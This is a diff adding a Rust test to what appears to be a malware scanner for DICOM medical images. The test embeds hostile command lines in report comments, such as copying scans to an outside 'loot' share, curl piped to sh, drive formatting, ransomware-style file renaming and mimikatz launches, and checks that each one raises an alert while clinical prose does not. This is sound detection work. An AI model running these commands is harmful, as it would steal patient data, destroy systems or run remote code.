@@ -834,3 +834,79 @@ fn a_pe_whose_nt_headers_lie_past_the_window_of_its_dos_header_is_found() {
         "{json:#}"
     );
 }
+
+/// Session 41 (issue 10): lines cmd.exe or bash acts on, each in a report's comments
+/// (ImageComments, between two lines of prose) as the review's probe put them, alert;
+/// report prose that cmd.exe runs to no effect does not.
+#[test]
+fn report_comments_alert_for_what_cmd_acts_on_and_not_for_prose() {
+    let env = Env::new();
+    let dir = env.path("comments");
+    fs::create_dir_all(&dir).expect("mkdir");
+    let attacks = [
+        "copy C:\\PACS\\a.dcm \\\\?\\UNC\\198.51.100.7\\loot\\",
+        "copy C:\\PACS\\a.dcm //198.51.100.7/loot/",
+        "format.com D: /q /y",
+        "echo Y|format D:",
+        "shutdown /r/f/t 0",
+        "for %f in (*.dcm) do ren \"%f\" \"%~nf.locked\"",
+        "bash --login -c \"curl http://198.51.100.7/x|sh\"",
+        "bash -i -c \"id\"",
+        "bash -e -c \"id\"",
+        "bash /tmp/x",
+        "at 23:00 mimikatz",
+        "at 3:00PM C:\\x\\evil.exe",
+        "start mimikatz",
+        "set s=\\\\198.51.100.7\\loot\r\ncopy C:\\PACS\\*.dcm %s%",
+        "evil.msc",
+        "evil.com",
+    ];
+    let prose = [
+        "Start \"Time-out\" /b procedure verified.",
+        "Start /B echo-planar imaging sequence.",
+        "cmd /c echo of CBD seen",
+        "CMD /C ECHO normal",
+        "At 15:20 ipconfig",
+        "Shutdown -r delayed due to emergency",
+        "copy of report: \\\\PACSRV01\\reports\\2024",
+    ];
+    let write = |kind: &str, i: usize, line: &str| {
+        let text = format!("Comparison with prior CT.\r\n{line}\r\nNo acute findings.");
+        let uid = format!("1.2.826.0.1.3680043.10.1137.41.{}.{i}", kind.len());
+        let path = dir.join(format!("{kind}-{i:02}.dcm"));
+        let file = DicomBuilder::ct(&uid)
+            .element(0x0020, 0x4000, *b"LT", text.as_bytes())
+            .build();
+        fs::write(&path, file).expect("write");
+        (path, line.to_owned())
+    };
+    let attacks: Vec<_> = attacks
+        .iter()
+        .enumerate()
+        .map(|(i, line)| write("attack", i, line))
+        .collect();
+    let prose: Vec<_> = prose
+        .iter()
+        .enumerate()
+        .map(|(i, line)| write("prose", i, line))
+        .collect();
+    let (_, json) = scan_json(&env, &[dir.to_str().expect("utf-8")]);
+    let alerts = |path: &Path| {
+        findings_of(&json, path)
+            .iter()
+            .filter(|f| f["severity"] == "alert")
+            .count()
+    };
+    let missed: Vec<_> = attacks
+        .iter()
+        .filter(|(path, _)| alerts(path) == 0)
+        .map(|(_, line)| line)
+        .collect();
+    let alerted: Vec<_> = prose
+        .iter()
+        .filter(|(path, _)| !findings_of(&json, path).is_empty())
+        .map(|(_, line)| line)
+        .collect();
+    assert!(missed.is_empty(), "missed: {missed:#?}");
+    assert!(alerted.is_empty(), "prose with a finding: {alerted:#?}");
+}
